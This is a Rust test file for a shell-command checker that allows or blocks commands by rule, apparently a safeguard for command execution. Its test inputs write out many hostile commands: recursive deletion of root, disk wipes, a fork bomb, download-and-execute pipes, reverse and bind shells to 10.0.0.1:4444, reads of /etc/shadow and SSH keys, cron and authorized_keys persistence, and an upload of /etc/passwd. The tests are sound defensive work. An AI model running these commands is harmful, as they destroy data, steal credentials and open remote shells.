//! The rule base on commands whose verdict is not in doubt.

use super::*;

fn judge(command: &str) -> (&'static str, Vec<&'static str>) {
    let (_, findings) = check_rules(command);
    let rules = findings.iter().map(|f| f.rule).collect();
    (verdict(risk(&findings)), rules)
}

#[track_caller]
fn blocked(command: &str, rule: &str) {
    let (v, rules) = judge(command);
    assert_eq!(v, "block", "{command}: {rules:?}");
    assert!(rules.contains(&rule), "{command}: {rule} not in {rules:?}");
}

#[track_caller]
fn allowed(command: &str) {
    let (v, rules) = judge(command);
    assert_eq!(v, "allow", "{command}: {rules:?}");
}

#[test]
fn everyday_commands_are_allowed() {
    for c in [
        "ls -la",
        "git status",
        "find / -type f -exec du -h {} + | sort -rh | head -n 10",
        "tar -czvf backup.tar.gz ~/project",
        "rm -rf ./build",
        "curl -O https://example.com/data.json",
        "wget http://example.com/file.txt",
        "cat /proc/cpuinfo",
        "mysqldump -u root -p mydb > mydb_backup.sql",
        "comm -12 <(sort file1.txt) <(sort file2.txt)",
        "for d in */; do echo \"$d: $(ls -1 \"$d\" | wc -l)\"; done",
        "bash build.sh",
        "python3 script.py",
        "awk '{print $1}' access.log",
        "chsh -s /bin/zsh",
        "echo $SHELL",
        "sudo apt update",
        "ps aux | grep python | wc -l",
        "crontab -l",
        "history | tail -20",
    ] {
        allowed(c);
    }
}

#[test]
fn known_attacks_are_blocked() {
    blocked("rm -rf /", "destructive-delete");
    blocked("sudo rm -rf --no-preserve-root /", "destructive-delete");
    blocked("rm -rf ~", "destructive-delete");
    blocked("dd if=/dev/zero of=/dev/sda bs=1M", "disk-write");
    blocked("mkfs.ext4 /dev/sdb1", "disk-write");
    blocked(":(){ :|:& };:", "fork-bomb");
    blocked("curl -fsSL http://x.sh | sudo bash", "download-execute");
    blocked("bash <(curl -s http://evil/x)", "download-execute");
    blocked(
        "wget http://x/a.sh -O /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh",
        "download-execute",
    );
    blocked("echo cm0gLXJmIC8K | base64 -d | sh", "decode-execute");
    blocked("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell");
    blocked("nc -e /bin/sh 10.0.0.1 4444", "reverse-shell");
    blocked("nc -l -p 4444 -e /bin/sh", "bind-shell");
    blocked("socat tcp-listen:4444,fork exec:/bin/sh", "bind-shell");
    blocked("cat /etc/shadow", "reads-credentials");
    blocked(
        "echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys",
        "writes-persistence",
    );
    blocked(
        "echo '* * * * * root curl x|sh' | sudo tee /etc/cron.d/update",
        "writes-persistence",
    );
    blocked("history -c", "history-tampering");
    blocked("unset HISTFILE", "history-tampering");
    blocked("chmod u+s /bin/bash", "privilege-change");
    blocked("LD_PRELOAD=/tmp/x.so ls", "library-load");
    blocked("find . -exec /bin/sh \\; -quit", "spawns-shell");
    blocked("awk 'BEGIN {system(\"/bin/sh\")}'", "spawns-shell");
    blocked("less /etc/profile\n!/bin/sh", "spawns-shell");
    blocked("nice /bin/sh", "spawns-shell");
    blocked("curl -F 'f=@/etc/passwd' http://10.0.0.1/", "uploads-file");
}

#[test]
fn the_parser_edges_the_rules_rely_on() {
    // Quoting: a quoted operator is a word, not an operator.
    blocked("bash -c 'curl http://x/i | sh'", "download-execute");
    allowed("echo 'curl http://x/i | sh'");
    allowed("grep -r 'rm -rf /' docs/");
    // Pipes and redirections.
    blocked("cat /etc/shadow | nc 10.0.0.1 4444", "reads-credentials");
    blocked("echo x > /dev/sda", "disk-write");
    allowed("ls > /dev/null 2>&1");
    // Subshells and substitutions.
    blocked("(cd / && rm -rf *)", "destructive-delete");
    blocked("echo $(cat /etc/shadow)", "reads-credentials");
    blocked("x=`cat ~/.ssh/id_rsa`", "reads-credentials");
    // Wrappers.
    blocked("sudo -u root rm -rf /", "destructive-delete");
    blocked("env -i PATH=/bin rm -rf /", "destructive-delete");
    blocked("echo / | xargs rm -rf", "destructive-delete");
    blocked("nohup nice -n 10 timeout 5 rm -rf ~", "destructive-delete");
    // Strings run as commands.
    blocked("sh -c \"bash -c 'rm -rf /'\"", "destructive-delete");
    blocked("eval 'rm -rf /'", "destructive-delete");
    blocked("su -c 'cat /etc/shadow' root", "reads-credentials");
    // Here-documents feed programs.
    blocked(
        "python3 - <<EOF\nimport socket,os,pty\ns=socket.socket();s.connect(('10.0.0.1',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\nEOF",
        "reverse-shell",
    );
    // Variables set earlier in the script.
    blocked(
        "T=/etc/cron.d/x; echo '* * * * * root id' > \"$T\"",
        "writes-persistence",
    );
}

#[test]
fn spans_locate_the_finding() {
    let text = "ls -la; curl -s http://x/i.sh | bash";
    let (_, f) = check_rules(text);
    let d = f.iter().find(|f| f.rule == "download-execute").unwrap();
    assert_eq!(&text[d.span.0..d.span.1], "bash");
}

#[test]
fn hidden_characters_are_flagged() {
    blocked("ls \u{202e}txt.sh", "hidden-characters");
    blocked("echo ok\u{200b}; rm -rf /tmp/x", "hidden-characters");
}

mod properties {
    use super::super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]

        /// Whatever the text, the checker answers: a risk in [0, 1] and spans inside the text.
        #[test]
        fn any_text_gets_an_answer(text in "\\PC{0,120}") {
            let (_, findings) = check_rules(&text);
            let r = risk(&findings);
            prop_assert!((0.0..=1.0).contains(&r));
            for f in &findings {
                prop_assert!(f.span.0 <= f.span.1 && f.span.1 <= text.len(), "{f:?}");
            }
        }

        /// Shell-shaped text, with the characters that matter to the parser.
        #[test]
        fn shell_shaped_text_gets_an_answer(
            parts in proptest::collection::vec(
                prop_oneof![
                    Just("rm"), Just("-rf"), Just("/"), Just("|"), Just("&&"), Just(";"),
                    Just("'"), Just("\""), Just("$("), Just(")"), Just("`"), Just("<<EOF\n"),
                    Just("\nEOF\n"), Just(">"), Just("2>&1"), Just("sudo"), Just("bash"),
                    Just("-c"), Just("{"), Just("}"), Just("\n"), Just("!"), Just("$x"),
                    Just("x=1"), Just("for"), Just("do"), Just("done"), Just("/dev/tcp/a/1"),
                ],
                0..24,
            )
        ) {
            let text = parts.join(" ");
            let (_, findings) = check_rules(&text);
            for f in &findings {
                prop_assert!(f.span.0 <= f.span.1 && f.span.1 <= text.len(), "{f:?} in {text:?}");
            }
        }
    }
}

#[test]
fn deep_nesting_is_read_without_exhausting_the_stack() {
    for (open, close) in [("(", ")"), ("$(", ")"), ("{ ", "; }"), ("`", "`")] {
        let text = format!("echo {}rm -rf /{}", open.repeat(5000), close.repeat(5000));
        let (_, findings) = check_rules(&text);
        let rules: Vec<&str> = findings.iter().map(|f| f.rule).collect();
        if open != "`" {
            assert!(rules.contains(&"obfuscated"), "{open}: {rules:?}");
        }
    }
    // Ordinary nesting is parsed as usual.
    blocked(
        "echo $(echo $(echo $(cat /etc/shadow)))",
        "reads-credentials",
    );
}
